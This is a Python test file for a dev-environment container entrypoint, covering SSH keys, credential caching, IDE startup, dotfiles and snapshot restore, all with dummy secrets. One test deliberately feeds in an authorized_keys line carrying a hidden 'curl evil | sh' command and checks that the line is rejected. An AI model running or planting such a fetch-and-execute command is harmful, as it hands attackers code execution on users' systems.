"""docker/base/entrypoint.sh, run as a script: a temporary HOME and workspace, and fake sshd,
code-server, ssh-keygen, gh, git clone and activity agent that record their arguments and
environment. Checks file modes, what each program was given, and that no secret is ever printed.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import stat
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from shared.adapters.compute import local_ssh
from tests.infra.test_workspace_setup import cache_daemons
from tests.infra.tooling import ROOT

ENTRYPOINT = ROOT / "docker" / "base" / "entrypoint.sh"
SETUP = ROOT / "docker" / "base" / "dev8-workspace-setup"
PROFILE = ROOT / "docker" / "base" / "profile.sh"

TOKEN = "dev8-test-token-0123456789abcdefXYZ"
HASH = "$argon2id$v=19$m=65536,t=3,p=4$ZGV2OHNhbHRzYWx0$Zm9vYmFyYmF6cXV4ZGV2OGhhc2hoYXNoaGFzaA"
PLAIN_PASSWORD = "plain-Passw0rd-for-local-docker-run"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEhzZXJ2ZXJrZXlmb3J0ZXN0c29ubHkwMTIzNDU2Nzg5 alice@laptop"
RSA_KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdev8testkeyonly== bob@desk"
AGENT_TOKEN = "d8a.YWxpY2U.env-0123456789abcdef.agentSecretPart0123456789abcdefghijklmnopq"
SECRETS = (TOKEN, HASH, PLAIN_PASSWORD, AGENT_TOKEN)

# Fake programs: each records its arguments (one per line) and environment, then does the least
# the entrypoint needs from it. RECORD is exported by the test.
RECORDER = """#!/usr/bin/env bash
name="$(basename "$0")"
n=0
while [[ -e "$RECORD/$name.$n.args" ]]; do n=$((n + 1)); done
printf '%s\\n' "$@" >"$RECORD/$name.$n.args.tmp"
env >"$RECORD/$name.$n.env"
mv "$RECORD/$name.$n.args.tmp" "$RECORD/$name.$n.args"
"""
FAKES = {
    "code-server": RECORDER + "exit 0\n",
    "sshd": RECORDER + "exit 0\n",
    "gh": RECORDER + "exit 0\n",
    "dev8-activity-agent": RECORDER + "exit 0\n",
    # restore: fills the working tree as a snapshot would (or fails as told); run: returns at once.
    "dev8-snapshot-agent": RECORDER
    + """if [[ "$1" == restore ]]; then
  [[ -n "${FAKE_RESTORE_STATUS:-}" ]] && exit "$FAKE_RESTORE_STATUS"
  printf 'from the last snapshot\\n' >"$DEV8_WORKSPACE_DIR/restored.txt"
fi
exit 0
""",
    "ssh-keygen": RECORDER
    + """out=""
while [[ $# -gt 0 ]]; do
  if [[ "$1" == -f ]]; then out="$2"; shift; fi
  shift
done
printf 'PRIVATE KEY %s\\n' "$RANDOM$RANDOM" >"$out"
printf 'ssh-ed25519 PUBLIC %s\\n' "$out" >"$out.pub"
""",
    # git: `clone` is faked (no network); everything else runs the real git against the temp HOME.
    "git": RECORDER
    + """if [[ "$1" == clone ]]; then
  if [[ -n "${FAKE_CLONE_ERROR:-}" ]]; then
    printf '%s\\n' "$FAKE_CLONE_ERROR" >&2
    exit 128
  fi
  target="${!#}"
  mkdir -p "$target/.git" && printf 'cloned\\n' >"$target/README.md"
  if [[ "$target" == */.dotfiles ]]; then
    if [[ -n "${FAKE_DOTFILES_INSTALL:-}" ]]; then
      printf '%s\\n' "$FAKE_DOTFILES_INSTALL" >"$target/install.sh"
    else
      printf 'set number\\n' >"$target/.vimrc"
    fi
  fi
  exit 0
fi
exec "$REAL_GIT" "$@"
""",
}


@dataclass
class Sandbox:
    root: Path
    home: Path
    workspace: Path
    bin: Path
    record: Path
    agent: Path
    env: dict[str, str] = field(default_factory=dict)

    def run(self, **overrides: str | None) -> subprocess.CompletedProcess[str]:
        env = dict(self.env)
        for name, value in overrides.items():
            if value is None:
                env.pop(name, None)
            else:
                env[name] = value
        result = subprocess.run(
            ["bash", str(ENTRYPOINT)], env=env, capture_output=True, text=True, timeout=60, check=False
        )
        return result

    def calls(self, name: str, wait: float = 5.0) -> list[tuple[list[str], dict[str, str]]]:
        """Recorded invocations of a fake, oldest first (waits a little for background ones)."""
        deadline = time.monotonic() + wait
        while True:
            found = sorted(self.record.glob(f"{name}.*.args"), key=lambda p: int(p.name.split(".")[-2]))
            if found or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        calls = []
        for args_file in found:
            env_file = args_file.with_suffix(".env")
            env = dict(line.split("=", 1) for line in env_file.read_text().splitlines() if "=" in line)
            calls.append((args_file.read_text().splitlines(), env))
        return calls

    def git_config(self, key: str) -> str:
        result = subprocess.run(
            [self.env["REAL_GIT"], "config", "--global", "--get-all", key],
            env={"HOME": str(self.home), "PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1"},
            capture_output=True,
            text=True,
            check=False,
        )
        return result.stdout.strip()

    @property
    def cache_socket(self) -> Path:
        return self.home / ".dev8" / "git-credentials" / "socket"

    @property
    def setup_report(self) -> Path:
        return self.home / ".dev8" / "setup-report"

    def cached_credential(self, host: str, protocol: str = "https") -> str:
        """What git's credential cache (the daemon the setup started) answers for `host`."""
        result = subprocess.run(
            [self.env["REAL_GIT"], "credential-cache", f"--socket={self.cache_socket}", "get"],
            input=f"protocol={protocol}\nhost={host}\n\n",
            env={"HOME": str(self.home), "PATH": "/usr/bin:/bin"},
            capture_output=True,
            text=True,
            check=True,
        )
        return result.stdout

    def end_cache(self) -> None:
        """End the cache daemons this sandbox started (a test that drops HOME orphans one)."""
        for pid in cache_daemons(self.root):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGTERM)


@pytest.fixture
def sandbox(tmp_path: Path) -> Iterator[Sandbox]:
    real_git = shutil.which("git")
    if real_git is None:
        pytest.skip("git is not installed")
    home, workspace, bin_dir, record = (tmp_path / d for d in ("home", "workspace", "bin", "record"))
    for directory in (home, workspace, bin_dir, record):
        directory.mkdir()
    for name, body in FAKES.items():
        fake = bin_dir / name
        fake.write_text(body)
        fake.chmod(0o755)
    env = {
        "PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin",
        "HOME": str(home),
        "WORKSPACE_DIR": str(workspace),
        "SSHD_BIN": str(bin_dir / "sshd"),
        "SSHD_CONFIG": str(ROOT / "docker" / "base" / "sshd_config"),
        "ACTIVITY_AGENT_BIN": str(bin_dir / "dev8-activity-agent"),
        "SNAPSHOT_AGENT_BIN": str(bin_dir / "dev8-snapshot-agent"),
        "WORKSPACE_SETUP_BIN": str(SETUP),
        "GIT_CONFIG_NOSYSTEM": "1",
        "RECORD": str(record),
        "REAL_GIT": real_git,
        "LANG": "C.UTF-8",
        "HASHED_PASSWORD": HASH,
        "GITHUB_TOKEN": TOKEN,
        "SSH_PUBLIC_KEY": KEY,
        "GIT_AUTHOR_NAME": "Alice Example",
        "GIT_AUTHOR_EMAIL": "alice@example.com",
        "DEV8_AGENT_TOKEN": AGENT_TOKEN,
        "DEV8_ACTIVITY_URL": "https://api.dev8.example/api/v1/environments/env-0123456789abcdef/activity",
    }
    box = Sandbox(tmp_path, home, workspace, bin_dir, record, bin_dir / "dev8-activity-agent", env)
    yield box
    box.end_cache()  # the credential cache's daemon outlives the entrypoint, as in a container


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def files_containing(root: Path, needle: str) -> list[Path]:
    hits = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink() and needle.encode() in path.read_bytes():
            hits.append(path)
    return hits


def assert_no_secret_printed(result: subprocess.CompletedProcess[str]) -> None:
    for secret in SECRETS:
        assert secret not in result.stdout, "a secret reached stdout"
        assert secret not in result.stderr, "a secret reached stderr"


def test_full_start(sandbox: Sandbox) -> None:
    result = sandbox.run()
    assert result.returncode == 0, result.stderr
    assert_no_secret_printed(result)

    # SSH: directory 700, authorized_keys 600 with exactly the key.
    ssh_dir = sandbox.home / ".ssh"
    assert mode(ssh_dir) == 0o700
    assert mode(ssh_dir / "authorized_keys") == 0o600
    assert (ssh_dir / "authorized_keys").read_text() == KEY + "\n"

    # git identity and git's own credential cache as the helper; the token is in no git config.
    assert sandbox.git_config("user.name") == "Alice Example"
    assert sandbox.git_config("user.email") == "alice@example.com"
    helper = f"cache --timeout=604800 --socket={sandbox.cache_socket}"
    assert sandbox.git_config("credential.helper") == helper
    assert sandbox.git_config("safe.directory") == "*"

    # The token: in the cache's memory behind a 0700 directory, in no file at all.
    assert mode(sandbox.cache_socket.parent) == 0o700
    assert sandbox.cached_credential("github.com") == f"username=x-access-token\npassword={TOKEN}\n"
    assert files_containing(sandbox.home, TOKEN) == []
    assert files_containing(sandbox.workspace, TOKEN) == []
    assert files_containing(sandbox.workspace, HASH) == []

    # code-server: password auth, hash in its environment only, settings on the workspace share.
    ((args, env),) = sandbox.calls("code-server")
    assert args[args.index("--bind-addr") + 1] == "0.0.0.0:8080"
    assert args[args.index("--auth") + 1] == "password"
    user_data = sandbox.workspace / ".dev8" / "code-server"
    assert args[args.index("--user-data-dir") + 1] == str(user_data)
    assert user_data.is_dir()
    assert args[-1] == str(sandbox.workspace)
    assert not any(secret in arg for arg in args for secret in SECRETS)
    assert env["HASHED_PASSWORD"] == HASH
    assert "PASSWORD" not in env
    assert env["GH_TOKEN"] == TOKEN  # gh in the IDE's terminals
    assert "DEV8_AGENT_TOKEN" not in env  # the agent's alone

    # sshd: foreground, logs to stderr, our config and per-environment host keys; no secrets.
    ((args, env),) = sandbox.calls("sshd")
    assert args[:3] == ["-D", "-e", "-f"]
    config = Path(args[3])  # the image's, with no variables to add here; 0600 on the container's disk
    assert config.is_relative_to(sandbox.home) and mode(config) == 0o600
    assert config.read_text() == Path(sandbox.env["SSHD_CONFIG"]).read_text()
    keys = [Path(args[i + 1]) for i, a in enumerate(args) if a == "-h"]
    assert [k.name for k in keys] == ["ssh_host_ed25519_key", "ssh_host_rsa_key"]
    for key in keys:
        assert key.is_relative_to(sandbox.home) and mode(key) == 0o600
        assert (sandbox.workspace / ".dev8" / "ssh-host-keys" / key.name).read_text() == key.read_text()
    for name in ("HASHED_PASSWORD", "PASSWORD", "GITHUB_TOKEN", "GH_TOKEN", "DEV8_AGENT_TOKEN"):
        assert name not in env

    # The activity agent: started, told where the heartbeat is, given its token and no other secret.
    ((args, env),) = sandbox.calls("dev8-activity-agent")
    assert env["CODE_SERVER_USER_DATA_DIR"] == str(user_data)
    assert env["DEV8_AGENT_WORKSPACE"] == str(sandbox.workspace)  # the tree its samples measure
    assert env["HOME"] == str(sandbox.home)  # code-server's heartbeat is under HOME/.local/share
    assert env["DEV8_AGENT_TOKEN"] == AGENT_TOKEN
    assert env["DEV8_ACTIVITY_URL"] == sandbox.env["DEV8_ACTIVITY_URL"]
    assert env["DEV8_AGENT_SETUP_REPORT"] == str(sandbox.setup_report)  # what it passes on
    assert sandbox.setup_report.read_text() == ""  # nothing failed
    for name in ("HASHED_PASSWORD", "PASSWORD", "GITHUB_TOKEN", "GH_TOKEN"):
        assert name not in env

    # No program got a secret on its command line.
    for args_file in sandbox.record.glob("*.args"):
        text = args_file.read_text()
        assert not any(secret in text for secret in SECRETS), args_file.name


def test_ssh_sessions_get_the_users_variables_never_a_secret(sandbox: Sandbox) -> None:
    """sshd gives a session a fresh environment: its config gets a SetEnv of the variables
    DEV8_SESSION_VARIABLES names, in the words local_ssh.py writes (its test runs them through the
    real sshd); a value with a line break is left out and said; a secret is never written."""
    tricky = {"PLAIN": "plain", "QUOTED": 'say "hi"', "BACKSLASHED": "C:\\temp\\", "DOLLAR": "$HOME"}
    names = [*tricky, "MULTILINE", "GITHUB_TOKEN", "DEV8_AGENT_TOKEN", "NOT_SET", "*"]
    result = sandbox.run(**tricky, MULTILINE="one\ntwo", DEV8_SESSION_VARIABLES=" ".join(names))
    assert result.returncode == 0, result.stderr
    assert "not in SSH sessions (a line break in the value): MULTILINE" in result.stderr
    ((args, _),) = sandbox.calls("sshd")
    written = Path(args[args.index("-f") + 1]).read_text().splitlines()
    words, left_out = local_ssh.setenv_values(tricky)
    assert written[-1] == "SetEnv " + " ".join(words) and left_out == []
    assert not any(secret in line for line in written for secret in SECRETS)


def test_restart_keeps_the_host_keys_and_replaces_authorized_keys(sandbox: Sandbox) -> None:
    assert sandbox.run().returncode == 0
    first = (sandbox.workspace / ".dev8" / "ssh-host-keys" / "ssh_host_ed25519_key").read_text()
    generated = len(sandbox.calls("ssh-keygen"))
    assert generated == 2
    # A new container: HOME is fresh, the workspace share is the same; the key was changed.
    shutil.rmtree(sandbox.home)
    sandbox.home.mkdir()
    result = sandbox.run(SSH_PUBLIC_KEY=RSA_KEY)
    assert result.returncode == 0, result.stderr
    assert len(sandbox.calls("ssh-keygen")) == generated, "host keys were regenerated"
    runtime_key = sandbox.home / ".dev8" / "ssh" / "ssh_host_ed25519_key"
    assert runtime_key.read_text() == first and mode(runtime_key) == 0o600
    assert (sandbox.home / ".ssh" / "authorized_keys").read_text() == RSA_KEY + "\n"


def test_authorized_keys_accept_only_plain_public_keys(sandbox: Sandbox) -> None:
    keys = "\r\n".join(
        [
            KEY,
            "",
            'command="curl evil | sh" ' + RSA_KEY,
            "not a key at all",
            RSA_KEY,
        ]
    )
    result = sandbox.run(SSH_PUBLIC_KEY=keys)
    assert result.returncode == 0, result.stderr
    assert (sandbox.home / ".ssh" / "authorized_keys").read_text() == f"{KEY}\n{RSA_KEY}\n"
    assert "2 line(s) of SSH_PUBLIC_KEY ignored" in result.stderr


def test_without_key_or_token_nothing_is_written(sandbox: Sandbox) -> None:
    result = sandbox.run(SSH_PUBLIC_KEY=None, GITHUB_TOKEN=None, GIT_AUTHOR_NAME=None, GIT_AUTHOR_EMAIL=None)
    assert result.returncode == 0, result.stderr
    assert not (sandbox.home / ".ssh" / "authorized_keys").exists()
    assert mode(sandbox.home / ".ssh") == 0o700
    assert not (sandbox.home / ".config" / "dev8").exists()
    assert sandbox.git_config("credential.https://github.com.helper") == ""
    assert sandbox.git_config("user.name") == "Dev8 Developer"
    assert "@" in sandbox.git_config("user.email")
    ((_, env),) = sandbox.calls("code-server")
    assert "GH_TOKEN" not in env


def test_refuses_to_start_the_ide_without_a_password(sandbox: Sandbox) -> None:
    result = sandbox.run(HASHED_PASSWORD=None)
    assert result.returncode == 64
    assert "HASHED_PASSWORD is not set" in result.stderr
    assert sandbox.calls("code-server", wait=0.5) == []
    assert sandbox.calls("sshd", wait=0.2) == []


def test_plain_password_is_for_local_runs_and_the_hash_wins(sandbox: Sandbox) -> None:
    result = sandbox.run(HASHED_PASSWORD=None, PASSWORD=PLAIN_PASSWORD)
    assert result.returncode == 0, result.stderr
    assert_no_secret_printed(result)
    ((_, env),) = sandbox.calls("code-server")
    assert env["PASSWORD"] == PLAIN_PASSWORD and "HASHED_PASSWORD" not in env
    for path in sandbox.record.glob("code-server.*"):
        path.unlink()
    assert sandbox.run(PASSWORD=PLAIN_PASSWORD).returncode == 0
    ((_, env),) = sandbox.calls("code-server")
    assert env["HASHED_PASSWORD"] == HASH and "PASSWORD" not in env


def test_runs_without_an_activity_agent(sandbox: Sandbox) -> None:
    sandbox.agent.unlink()
    result = sandbox.run()
    assert result.returncode == 0, result.stderr
    assert "activity agent: none in this image" in result.stderr
    assert len(sandbox.calls("code-server")) == 1


def test_clones_the_repository_into_an_empty_workspace(sandbox: Sandbox) -> None:
    result = sandbox.run(REPOSITORY_URL="https://github.com/example/my-app.git")
    assert result.returncode == 0, result.stderr
    clones = [args for args, _ in sandbox.calls("git") if args[:1] == ["clone"]]
    assert clones == [
        ["clone", "--quiet", "--", "https://github.com/example/my-app.git", str(sandbox.workspace / "my-app")]
    ]
    assert (sandbox.workspace / "my-app" / "README.md").exists()
    # The credential cache holds the token before the clone, so private repositories work.
    clone_env = next(env for args, env in sandbox.calls("git") if args[:1] == ["clone"])
    assert clone_env["GIT_TERMINAL_PROMPT"] == "0"
    stores = [args for args, _ in sandbox.calls("git") if args[:1] == ["credential-cache"]]
    assert stores and all(args[-1] == "store" for args in stores)
    assert all(TOKEN not in arg for args, _ in sandbox.calls("git") for arg in args)
    # Next start: the workspace has files, nothing is cloned again.
    assert sandbox.run(REPOSITORY_URL="https://github.com/example/my-app.git").returncode == 0
    assert len([a for a, _ in sandbox.calls("git") if a[:1] == ["clone"]]) == 1


def test_does_not_clone_over_existing_files_or_from_non_https(sandbox: Sandbox) -> None:
    (sandbox.workspace / "notes.txt").write_text("mine")
    assert sandbox.run(REPOSITORY_URL="https://github.com/example/app").returncode == 0
    (sandbox.workspace / "notes.txt").unlink()
    assert sandbox.run(REPOSITORY_URL="git@github.com:example/app.git").returncode == 0
    assert [a for a, _ in sandbox.calls("git") if a[:1] == ["clone"]] == []


def test_a_failed_clone_is_reported_without_credentials_and_the_ide_still_starts(sandbox: Sandbox) -> None:
    error = f"fatal: unable to access 'https://x-access-token:{TOKEN}@github.com/example/private.git/': 403"
    result = sandbox.run(REPOSITORY_URL="https://github.com/example/private.git", FAKE_CLONE_ERROR=error)
    assert result.returncode == 0, result.stderr
    assert_no_secret_printed(result)
    assert "clone: failed" in result.stderr
    assert "unable to access" in result.stderr and "***@github.com" in result.stderr
    assert len(sandbox.calls("code-server")) == 1
    # One line for the activity agent to pass on, credentials out.
    report = sandbox.setup_report.read_text()
    assert report.startswith(
        "repository: fatal: unable to access 'https://***@github.com/example/private.git/'"
    )
    assert report.count("\n") == 1 and TOKEN not in report


def test_the_credential_cache_serves_github_and_the_named_hosts_only(sandbox: Sandbox) -> None:
    hosts = "git.example.com:8443 bad/host ghe.corp.example"
    assert sandbox.run(GIT_TOKEN_HOSTS=hosts).returncode == 0
    expected = f"username=x-access-token\npassword={TOKEN}\n"
    for host in ("github.com", "git.example.com:8443", "ghe.corp.example"):
        assert sandbox.cached_credential(host) == expected, host
    for host in ("gitlab.com", "git.example.com", "bad"):
        assert sandbox.cached_credential(host) == "", host
    assert sandbox.cached_credential("github.com", protocol="http") == ""
    # A start without a token leaves no helper behind.
    sandbox.end_cache()
    assert sandbox.run(GITHUB_TOKEN=None).returncode == 0
    assert sandbox.git_config("credential.helper") == ""


def test_login_shells_get_the_token_for_gh(sandbox: Sandbox) -> None:
    assert sandbox.run().returncode == 0
    shell = shutil.which("sh") or "/bin/sh"
    result = subprocess.run(
        [shell, "-c", f'. "{PROFILE}"; printf "%s" "$GH_TOKEN"'],
        env={"HOME": str(sandbox.home), "PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1"},
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout == TOKEN


def test_entrypoint_is_strict_bash() -> None:
    text = ENTRYPOINT.read_text()
    assert text.startswith("#!/usr/bin/env bash\n")
    assert "set -euo pipefail" in text
    assert "set -x" not in text and "xtrace" not in text
    assert os.access(ENTRYPOINT, os.X_OK)


RESTIC_PASSWORD = "restic-repository-password-0123456789"


def with_snapshots(sandbox: Sandbox) -> dict[str, str]:
    share = sandbox.root / "share"
    share.mkdir(exist_ok=True)
    return {"DEV8_SNAPSHOT_REPOSITORY": str(share / "snapshots"), "DEV8_SNAPSHOT_PASSWORD": RESTIC_PASSWORD}


def test_with_snapshots_the_tree_is_restored_first_and_saved_by_the_agent_alone(sandbox: Sandbox) -> None:
    result = sandbox.run(REPOSITORY_URL="https://github.com/example/app.git", **with_snapshots(sandbox))
    assert result.returncode == 0, result.stderr
    assert RESTIC_PASSWORD not in result.stdout + result.stderr
    restore, run = sandbox.calls("dev8-snapshot-agent")
    assert restore[0] == ["restore"] and run[0] == ["run"]
    for _, env in (restore, run):
        assert env["DEV8_SNAPSHOT_PASSWORD"] == RESTIC_PASSWORD
        assert env["DEV8_WORKSPACE_DIR"] == str(sandbox.workspace)
        assert env["DEV8_AGENT_TOKEN"] == AGENT_TOKEN  # what it reports snapshots with
        for name in ("HASHED_PASSWORD", "GITHUB_TOKEN"):
            assert name not in env
    # Restored before the clone: the tree was not empty, so nothing was cloned over it.
    assert (sandbox.workspace / "restored.txt").read_text() == "from the last snapshot\n"
    assert not [args for args, _ in sandbox.calls("git", wait=0.2) if args[:1] == ["clone"]]
    # IDE state and host keys live on the share, beside the repository, not in the tree.
    ((args, env),) = sandbox.calls("code-server")
    assert args[args.index("--user-data-dir") + 1] == str(sandbox.root / "share" / ".dev8" / "code-server")
    assert args[-1] == str(sandbox.workspace)
    for name in ("code-server", "sshd", "dev8-activity-agent"):
        for _, env in sandbox.calls(name):
            assert "DEV8_SNAPSHOT_PASSWORD" not in env, name
    for args_file in sandbox.record.glob("*.args"):
        assert RESTIC_PASSWORD not in args_file.read_text()


def test_a_failed_restore_stops_the_start_and_a_restarted_container_keeps_its_tree(sandbox: Sandbox) -> None:
    failed = sandbox.run(FAKE_RESTORE_STATUS="4", **with_snapshots(sandbox))
    assert failed.returncode == 75 and "could not restore" in failed.stderr
    assert sandbox.calls("code-server", wait=0.2) == []  # nothing runs that could save an empty tree
    kept = sandbox.run(FAKE_RESTORE_STATUS="3", **with_snapshots(sandbox))
    assert kept.returncode == 0, kept.stderr
    assert "already here" in kept.stderr


# --- git identity and dotfiles -------------------------------------------------------------------


def test_the_frontends_git_identity_names_are_aliases(sandbox: Sandbox) -> None:
    only_aliases = {"GIT_AUTHOR_NAME": None, "GIT_AUTHOR_EMAIL": None}
    assert (
        sandbox.run(**only_aliases, GIT_USER_NAME="Bob Ray", GIT_USER_EMAIL="bob@example.com").returncode == 0
    )
    assert (sandbox.git_config("user.name"), sandbox.git_config("user.email")) == (
        "Bob Ray",
        "bob@example.com",
    )
    assert sandbox.run(GIT_USER_NAME="Bob Ray").returncode == 0  # the author names win
    assert sandbox.git_config("user.name") == "Alice Example"


def test_dotfiles_are_cloned_and_their_install_script_run_without_secrets(sandbox: Sandbox) -> None:
    install = 'env > "$HOME/dotfiles-env"; printf ok > "$HOME/dotfiles-installed"'
    url = "https://github.com/alice/dotfiles"
    result = sandbox.run(DOTFILES_URL=url, FAKE_DOTFILES_INSTALL=install)
    assert result.returncode == 0, result.stderr
    assert_no_secret_printed(result)
    clones = [args for args, _ in sandbox.calls("git") if args[:1] == ["clone"]]
    assert clones == [["clone", "--quiet", "--depth", "1", "--", url, str(sandbox.home / ".dotfiles")]]
    assert (sandbox.home / "dotfiles-installed").read_text() == "ok"
    seen = (sandbox.home / "dotfiles-env").read_text()
    assert TOKEN not in seen and HASH not in seen and "GITHUB_TOKEN=" not in seen
    assert "dotfiles: running install.sh" in result.stderr and "dotfiles: installed" in result.stderr
    assert len(sandbox.calls("code-server")) == 1


def test_dotfiles_without_an_install_script_are_linked_into_home(sandbox: Sandbox) -> None:
    assert sandbox.run(DOTFILES_URL="https://github.com/alice/dotfiles").returncode == 0
    link = sandbox.home / ".vimrc"
    assert link.is_symlink() and link.resolve() == (sandbox.home / ".dotfiles" / ".vimrc").resolve()
    assert not (sandbox.home / ".git").exists()


def test_dotfiles_that_fail_or_are_not_https_never_stop_the_ide(sandbox: Sandbox) -> None:
    error = f"fatal: unable to access 'https://x-access-token:{TOKEN}@github.com/alice/dotfiles/': 404"
    failed = sandbox.run(DOTFILES_URL="https://github.com/alice/dotfiles", FAKE_CLONE_ERROR=error)
    assert failed.returncode == 0 and "dotfiles: clone failed" in failed.stderr
    assert_no_secret_printed(failed)
    plain = sandbox.run(DOTFILES_URL="http://example.com/dotfiles")
    assert plain.returncode == 0 and "not an https URL" in plain.stderr
    assert [a for a, _ in sandbox.calls("git") if a[:1] == ["clone"]] == [
        [
            "clone",
            "--quiet",
            "--depth",
            "1",
            "--",
            "https://github.com/alice/dotfiles",
            str(sandbox.home / ".dotfiles"),
        ]
    ]
    assert len(sandbox.calls("code-server")) == 2
